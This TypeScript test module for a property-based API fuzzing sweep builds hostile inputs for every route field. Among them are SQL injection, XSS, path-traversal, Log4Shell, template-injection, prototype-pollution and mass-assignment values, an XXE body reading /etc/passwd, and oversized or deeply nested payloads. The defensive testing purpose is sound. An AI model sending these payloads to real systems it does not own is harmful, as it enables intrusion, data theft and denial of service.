// Over 300 lines: the catalogue of hostile values the input sweep sends to every field of every route.
import fc from 'fast-check';
import { type JsonSchema, resolve } from './route-table.js';

/** Nested `depth` levels deep: parsers and validators must refuse it without blowing the stack. */
export function deeplyNested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
}

export const HUGE_STRING = 'A'.repeat(100_000);

/** Values chosen by hand for what breaks parsers, validators, SQL and HTML: each one a known attack. */
const HOSTILE_CONSTANTS: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  -0.5,
  0.1,
  1.5,
  -1e308,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  2 ** 31,
  -(2 ** 31) - 1,
  1e-7,
  '',
  ' ',
  '0',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  [],
  {},
  [null],
  { $gt: '' },
  "' OR 1=1 --",
  "'; drop table users; --",
  '1; select pg_sleep(5)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\u202e\u202d',
  '👩‍👩‍👧‍👦🔥🇮🇳',
  'Z̸̢̛a̵̡l̷̨g̶̢o̵',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, meant literally
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%n%x',
  HUGE_STRING,
  '9'.repeat(400),
];

/** Any hostile value: a known attack, random text in any script, random numbers and structures. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_CONSTANTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.constant(deeplyNested(200)) },
);

/** Text a path segment can carry: attacks and random script, kept under the router's parameter limit. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "' OR 1=1 --",
    "'; drop table users; --",
    '<script>alert(1)</script>',
    '..',
    '.',
    '%',
    'null',
    '-1',
    '1.5',
    'NaN',
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    '👩‍👩‍👧‍👦',
    '\u0000',
    'a/b',
    '__proto__',
  ),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
);

const clampLength = (max: number | undefined, min: number, cap: number) =>
  Math.max(min, Math.min(max ?? cap, cap));

/**
 * Values that satisfy a JSON Schema's structure (types, formats, patterns, bounds), used as the
 * well-formed starting point the hostile variants below then break one piece at a time.
 */
export function validValue(schema: JsonSchema, root: JsonSchema = schema): fc.Arbitrary<unknown> {
  const node = resolve(schema, root);
  const alternatives = node.anyOf ?? node.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((option) => validValue(option, root)));
  if (node.allOf?.[0]) return validValue(node.allOf[0], root);
  if (node.const !== undefined) return fc.constant(node.const);
  if (node.enum) return fc.constantFrom(...node.enum);
  const types = [node.type ?? []].flat();
  if (types.length > 1) return fc.oneof(...types.map((type) => validValue({ ...node, type }, root)));
  switch (types[0]) {
    case 'string':
      return validString(node);
    case 'integer':
      return fc.integer({
        min: node.minimum ?? (node.exclusiveMinimum !== undefined ? node.exclusiveMinimum + 1 : -1000),
        max: Math.min(node.maximum ?? 1_000_000, Number.MAX_SAFE_INTEGER),
      });
    case 'number':
      return fc.double({
        min: node.minimum ?? node.exclusiveMinimum ?? -1000,
        max: node.maximum ?? 1_000_000,
        noNaN: true,
        noDefaultInfinity: true,
      });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const minLength = node.minItems ?? 0;
      return fc.array(node.items ? validValue(node.items, root) : fc.jsonValue(), {
        minLength,
        maxLength: clampLength(node.maxItems, minLength, 3),
      });
    }
    case 'object': {
      const properties = node.properties ?? {};
      const model = Object.fromEntries(
        Object.entries(properties).map(([name, property]) => [name, validValue(property, root)]),
      );
      return fc.record(model, { requiredKeys: (node.required ?? []).filter((name) => name in properties) });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function validString(node: JsonSchema): fc.Arbitrary<string> {
  const day = fc.date({ min: new Date('1950-01-01'), max: new Date('2090-12-31'), noInvalidDate: true });
  switch (node.format) {
    case 'uuid':
      return fc.uuid();
    case 'date':
      return day.map((date) => date.toISOString().slice(0, 10));
    case 'date-time':
      return day.map((date) => date.toISOString());
    case 'email':
      return fc.emailAddress();
    case 'uri':
    case 'url':
      return fc.webUrl();
  }
  if (node.pattern) return fc.stringMatching(new RegExp(node.pattern));
  const minLength = node.minLength ?? 0;
  return fc.string({ minLength, maxLength: clampLength(node.maxLength, minLength, 40) });
}

type Path = (string | number)[];

/** Every position inside a value (object keys and array indexes), outermost first. */
function positions(value: unknown, path: Path = []): Path[] {
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, child]) => {
    const here = [...path, Array.isArray(value) ? Number(key) : key];
    return [here, ...positions(child, here)];
  });
}

function edited(
  value: unknown,
  path: Path,
  edit: (parent: Record<string | number, unknown>, key: string | number) => void,
) {
  const copy = structuredClone(value) as Record<string | number, unknown>;
  let parent = copy;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  edit(parent, path[path.length - 1] as string | number);
  return copy;
}

const SMUGGLED_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'isAdmin',
  'roles',
  'userId',
  'status',
  'id',
  '$where',
];

export type HostileInput = { how: string; value: unknown };

/**
 * Hostile variants of a well-formed value: one position replaced by a hostile value or removed, keys
 * smuggled in (prototype pollution, mass assignment), something else entirely, deep nesting, and the
 * well-formed value itself (so payloads that pass validation, like SQL in a search term, reach the domain).
 */
export function hostileVariants(valid: fc.Arbitrary<unknown>): fc.Arbitrary<HostileInput> {
  const at = (value: unknown, index: number) => {
    const all = positions(value);
    return all.length > 0 ? (all[index % all.length] as Path) : null;
  };
  return fc.oneof(
    { weight: 2, arbitrary: valid.map((value) => ({ how: 'well-formed', value })) },
    {
      weight: 6,
      arbitrary: fc.tuple(valid, fc.nat(), hostileValue).map(([value, index, hostile]) => {
        const path = at(value, index);
        if (!path) return { how: 'replaced whole', value: hostile };
        return {
          how: `replaced ${path.join('.')}`,
          value: edited(value, path, (parent, key) => {
            parent[key] = hostile;
          }),
        };
      }),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(valid, fc.nat()).map(([value, index]) => {
        const path = at(value, index);
        if (!path) return { how: 'emptied', value: {} };
        return {
          how: `removed ${path.join('.')}`,
          value: edited(value, path, (parent, key) => {
            delete parent[key];
          }),
        };
      }),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(valid, fc.constantFrom(...SMUGGLED_KEYS), hostileValue)
        .map(([value, key, hostile]) => {
          const target =
            value !== null && typeof value === 'object' && !Array.isArray(value) ? { ...value } : {};
          // defineProperty, so `__proto__` becomes a real key on the wire rather than a prototype change.
          Object.defineProperty(target, key, {
            value: hostile,
            enumerable: true,
            writable: true,
            configurable: true,
          });
          return { how: `extra key ${key}`, value: target };
        }),
    },
    { weight: 1, arbitrary: fc.anything().map((value) => ({ how: 'anything', value })) },
    { weight: 1, arbitrary: fc.constant({ how: 'deeply nested', value: deeplyNested(500) }) },
  );
}

/** A query string for any value: objects become key=value pairs (arrays repeat the key), the rest raw. */
export function toQueryString(value: unknown): string {
  const text = (item: unknown) =>
    typeof item === 'object' && item !== null ? JSON.stringify(item) : String(item);
  if (value === null || typeof value !== 'object' || Array.isArray(value)) {
    return value === undefined ? '' : `?${encodeURIComponent(JSON.stringify(value) ?? '')}`;
  }
  const search = new URLSearchParams();
  for (const [key, item] of Object.entries(value)) {
    for (const one of Array.isArray(item) ? item : [item]) search.append(key, text(one));
  }
  const query = search.toString();
  return query ? `?${query}` : '';
}

/** Malformed bodies: broken JSON, JSON of the wrong kind, prototype pollution, and a body over the limit. */
export const RAW_BODIES: { how: string; contentType: string; payload: string }[] = [
  ...['{', '{"a":', '[1,', '"unterminated', 'nul', '{"a":1}}', '\u0000', ' '].map((payload) => ({
    how: `broken JSON ${JSON.stringify(payload)}`,
    contentType: 'application/json',
    payload,
  })),
  ...['null', '[]', '"text"', '1', 'true'].map((payload) => ({
    how: `JSON ${payload}`,
    contentType: 'application/json',
    payload,
  })),
  {
    how: 'prototype pollution',
    contentType: 'application/json',
    payload: '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
  },
  { how: 'text/plain', contentType: 'text/plain', payload: 'hello' },
  { how: 'form', contentType: 'application/x-www-form-urlencoded', payload: 'a=1&__proto__[x]=1' },
  {
    how: 'xml',
    contentType: 'application/xml',
    payload: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  },
  { how: 'multipart', contentType: 'multipart/form-data; boundary=x', payload: '--x\r\n\r\nhello\r\n--x--' },
  { how: 'json with charset games', contentType: 'application/json; charset=utf-7', payload: '{}' },
  {
    how: 'nested 100000 deep',
    contentType: 'application/json',
    payload: `${'{"a":['.repeat(100_000)}1${']}'.repeat(100_000)}`,
  },
  {
    how: 'body over the limit',
    contentType: 'application/json',
    payload: `{"a":"${'A'.repeat(1_100_000)}"}`,
  },
];

/** The same value with a NUL character in every string, which PostgreSQL text cannot hold. */
export function withNulInEveryString(value: unknown): unknown {
  if (typeof value === 'string') return `${value}\u0000`;
  if (Array.isArray(value)) return value.map(withNulInEveryString);
  if (value !== null && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, withNulInEveryString(item)]));
  }
  return value;
}

/** Query strings the parser itself must survive. */
export const RAW_QUERIES = [
  '?page=1&page=2&limit=1&limit=2',
  '?page[]=1',
  '?page[$gt]=0',
  '?__proto__[isAdmin]=true&constructor[prototype][x]=1',
  '?limit=%ZZ',
  '?&&&=&=',
  `?q=${'A'.repeat(100_000)}`,
  '?page=1e309&limit=-0',
  '?page=0x10&limit=010',
];
